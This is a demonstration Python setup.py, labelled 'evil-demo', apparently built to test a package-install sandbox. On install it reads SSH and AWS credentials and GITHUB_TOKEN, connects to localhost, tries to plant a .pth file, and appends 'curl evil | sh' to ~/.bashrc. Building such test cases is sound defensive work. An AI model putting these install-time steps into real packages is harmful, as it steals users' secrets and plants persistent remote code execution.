# An example of what malicious packages do at install time, aimed only at
# this machine: it reads your SSH key and cloud credentials, sends them to
# 127.0.0.1, and plants a .pth file that would run at every Python start.
# Under pipjail it finds decoys, no network and a read-only system.
import glob, os, socket, site, sys
from setuptools import setup

def attempt(what, fn):
    try:
        print(f"evil-demo: {what}: {fn()}", file=sys.stderr)
    except Exception as e:
        print(f"evil-demo: {what}: failed: {e}", file=sys.stderr)

home = os.path.expanduser("~")
attempt("read ~/.ssh/id_rsa", lambda: open(os.path.join(home, ".ssh/id_rsa")).read().splitlines()[2][:40])
attempt("read ~/.aws/credentials", lambda: open(os.path.join(home, ".aws/credentials")).read().split()[-1])
attempt("GITHUB_TOKEN", lambda: os.environ.get("GITHUB_TOKEN"))
attempt("send to 127.0.0.1:8000", lambda: socket.create_connection(("127.0.0.1", 8000), timeout=2))
attempt("plant /usr/lib/python3/dist-packages/zz-evil.pth",
        lambda: open("/usr/lib/python3/dist-packages/zz-evil.pth", "w").write("import os\n"))
attempt("append to ~/.bashrc", lambda: open(os.path.join(home, ".bashrc"), "a").write("curl evil | sh\n"))
attempt("list /home", lambda: os.listdir("/home"))

setup(name="evil-demo", version="1.0", py_modules=["evil_demo"])
